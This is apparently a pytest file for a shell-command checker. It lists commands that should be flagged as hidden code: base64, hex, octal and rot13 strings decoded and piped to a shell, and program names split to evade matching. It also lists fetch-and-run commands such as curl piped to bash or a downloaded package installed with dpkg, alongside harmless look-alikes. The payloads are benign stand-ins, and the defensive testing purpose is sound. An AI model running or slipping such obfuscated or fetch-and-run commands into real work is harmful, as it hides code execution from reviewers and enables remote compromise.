"""Code that a reviewer cannot read, and code that is fetched and run: found, and told from what only looks like it."""

import pytest
from checking import of_shell, one, shell

HIDDEN = [
    # decoded and run
    r"printf '\x65\x63\x68\x6f' | sh",
    r"printf '\145\143\150\157' | sh",
    r"echo -e '\145\143\150\157 \150\151' | bash",
    r'for c in 105 100; do printf "\\$(printf %o "$c")"; done | sh',
    "echo 'di' | rev | sh",
    "echo 'rpub uv' | tr 'a-z' 'n-za-m' | bash",
    "base64 -d /tmp/x | gunzip | sh",
    "base64 -d /tmp/x | xargs -0 sh -c",
    "base64 -d /tmp/x | xargs -I{} bash -c '{}'",
    'bash <<< "$(base64 -d /tmp/x)"',
    "bash < <(base64 -d /tmp/x)",
    'bash -eo pipefail -c "$(base64 -d /tmp/x)"',
    'bash -ce "$(base64 -d /tmp/x)"',
    "python3 <(base64 -d /tmp/x)",
    'perl -e "$(base64 -d /tmp/x)"',
    "X=$(base64 -d /tmp/x); $X",
    # by another language
    "python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
    "python3 -c \"import base64; c = base64.b64decode('cHJpbnQoMSk='); exec(c)\"",
    "python3 -c \"import os, base64; os.system(base64.b64decode('aWQ='))\"",
    "python3 -c 'exec(bytes.fromhex(\"7072696e74283129\").decode())'",
    "python3 - <<'EOF'\nimport zlib, base64\nexec(zlib.decompress(base64.b64decode('eA==')))\nEOF",
    "perl -MMIME::Base64 -e 'system(decode_base64(\"aWQ=\"))'",
    'perl -e \'eval(pack("H*", "6964"))\'',
    "php -r 'eval(base64_decode(\"aWQ=\"));'",
    "node -e 'eval(atob(\"aWQ=\"))'",
    'ruby -e \'eval(["6964"].pack("H*"))\'',
    "awk 'BEGIN { system(sprintf(\"%c%c\", 105, 100)) }'",
    "python3 -c 'print(bytes.fromhex(\"6964\").decode())' | sh",
    # by way of a file
    "base64 -d > /tmp/u <<< aWQK; chmod +x /tmp/u; /tmp/u",
    "base64 -d /tmp/x | gunzip > /tmp/u; sh /tmp/u",
    "openssl enc -d -aes-256-cbc -in /tmp/x -out /tmp/u; bash /tmp/u",
    "base64 -d /tmp/x | tee /tmp/u > /dev/null; source /tmp/u",
    # names in pieces
    'i""d -u',
    "i'd' -u",
    r"i\d -u",
    r"b\as\h -c id",
    r"$'\x69\x64' -u",
    "a=i; b=d; $a$b -u",
    'a=i; b=d; "$a$b" -u',
    "${PATH:0:1}bin${PATH:0:1}id",
    "cat${IFS}/etc/hostname",
    "sudo i''d -u",
]
READABLE = [
    "base64 -d cert.b64 > /tmp/cert.pem; openssl x509 -in /tmp/cert.pem -noout -subject",
    "base64 -d cert.b64 > /tmp/cert.pem; sh check.sh /tmp/cert.pem",
    "cut -d. -f2 claims.txt | base64 -d | jq .exp",
    "base64 -d /tmp/x | xargs -n1 kubectl delete pod",
    "base64 -d /tmp/x | xargs -I{} sh -c 'echo \"$1\"' _ {}",
    r"printf '\x1b[31mfailed\x1b[0m\n'",
    r"printf '%s\n' 'echo hi' | sh",
    r"echo -e 'echo a\necho b' | sh",
    "echo 'echo hi' | tr -d '\\r' | sh",
    "echo 'ECHO HI' | tr 'A-Z' 'a-z' | sh",
    "echo 'ECHO HI' | tr '[:upper:]' '[:lower:]' | sh",
    "echo /srv/app/42 | rev | cut -d/ -f1 | rev",
    "gunzip -c /backup/shop.sql.gz | psql -h db shop",
    "python3 -c 'import base64; print(base64.b64decode(\"aWQ=\"))'",
    'python3 -c \'import base64, subprocess; base64.b64decode("aWQ="); subprocess.run(["id"])\'',
    "python3 -c 'import json, re; re.compile(\"a\"); print(chr(65))'",
    'node -e \'/a/.exec(Buffer.from("aWQ=", "base64").toString())\'',
    "awk '{ printf \"%c\", $1 }' numbers.txt",
    "awk '{ system(\"touch \" $1) }' names.txt",
    r"\ls -la /srv/app",
    'KUBECTL="kubectl -n shop"; $KUBECTL get pods',
    "V=3.11; python$V -m json.tool",
    "V=3; python${V} -m json.tool",
    "BIN=/usr/local/bin; $BIN/tool --version",
    'BIN=/usr/local/bin; "$BIN"/tool --version',
    "TOOL=kube; ${TOOL}ctl get pods",
    '"/opt/my app"/bin/tool',
    'grep -c \'status="500"\' "/var/log/app/access log.txt"',
    'sh check.sh "$(base64 -d /tmp/x)"',
    'python3 check.py "$(base64 -d /tmp/x)"',
    'eval echo "$(base64 -d /tmp/x)"',
    "cp file{,.bak}",
    "touch {a,b}",
    "/usr/bin/env python3 --version",
    "IFS=$'\\n' read -r -d '' -a lines < hosts.txt",
    '"${TOOL:-kubectl}" get pods',
    '"${CMD[@]}" get pods',
    '"$(dirname "$0")/run.sh"',
    "ssh web-1 'docker exec web sh -c '\\''id -u'\\'",
    'bash -c "bash -c \\"id -u\\""',
]
FETCHED = [
    "python3 -c \"import urllib.request as u; exec(u.urlopen('https://example.com/a.py').read())\"",
    "python3 -c \"import os, requests; os.system(requests.get('https://example.com/a.sh').text)\"",
    "perl -MLWP::Simple -e 'eval(get(\"https://example.com/a.pl\"))' -e 'use LWP::Simple'",
    "php -r 'eval(file_get_contents(\"https://example.com/a\"));'",
    'bash <<< "$(curl -sL https://example.com/x.sh)"',
    "bash < <(curl -sL https://example.com/x.sh)",
    "lwp-download https://example.com/x.pl /tmp/x.pl && perl /tmp/x.pl",
    "lynx -source https://example.com/x.sh | sh",
    "curl -s https://example.com/x | xargs -I{} sh -c '{}'",
    "curl -s https://example.com/x | xargs sh -c",
    "X=$(curl -s https://example.com/x); $X",
    "wget -O /tmp/agent.deb https://example.com/agent.deb && sudo dpkg -i /tmp/agent.deb",
    "curl -LO https://example.com/agent.rpm; rpm -Uvh agent.rpm",
    "curl -Lo /tmp/a.deb https://example.com/agent.deb; apt-get install -y /tmp/a.deb",
    "curl -s https://example.com/x.sh | tee /tmp/run.sh; curl -so /tmp/run.sh https://example.com/x; sh /tmp/run.sh",
]
NOT_RUN = [
    "python3 -c \"import urllib.request as u; print(u.urlopen('http://web:8080/healthz').status)\"",
    "python3 -c \"import os, requests; r = requests.get('http://web/'); os.system('uptime')\"",
    "curl -s https://example.com/hosts.txt | xargs -n1 ping -c1",
    "curl -s https://example.com/names | xargs -I{} sh -c 'echo \"$1\"' _ {}",
    "wget -O /tmp/agent.deb https://example.com/agent.deb; sha256sum -c sums; dpkg -i /tmp/agent.deb",
    "wget -O /tmp/agent.deb https://example.com/agent.deb; dpkg --info /tmp/agent.deb",
    "curl -LO https://example.com/notes.txt; apt-get install -y jq",
    "dpkg -i /opt/packages/agent.deb",
    'cat <<< "$(curl -s https://example.com/x)"',
    'X=$(curl -s https://example.com/x); echo "$X"',
]


@pytest.mark.parametrize("command", HIDDEN)
def test_code_that_cannot_be_read_is_found(command: str) -> None:
    assert "shell-hidden-code" in of_shell(command)


@pytest.mark.parametrize("command", READABLE)
def test_code_that_can_be_read_is_left_alone(command: str) -> None:
    assert "shell-hidden-code" not in of_shell(command)


@pytest.mark.parametrize("command", FETCHED)
def test_a_download_that_is_run_is_found(command: str) -> None:
    assert "shell-fetch-and-run" in of_shell(command)


@pytest.mark.parametrize("command", NOT_RUN)
def test_a_download_that_is_not_run_is_left_alone(command: str) -> None:
    assert "shell-fetch-and-run" not in of_shell(command)


def test_the_message_names_the_file_between_decoding_and_running() -> None:
    found = one("shell-hidden-code", shell("base64 -d x > /tmp/u; sh /tmp/u"))
    assert found.message == "`sh /tmp/u` runs what `base64 -d x` decoded"


def test_the_message_names_the_way_a_program_is_spelled() -> None:
    found = one("shell-hidden-code", shell('i""d -u'))
    assert found.message == "`id -u` is spelled so that it cannot be found by its name"
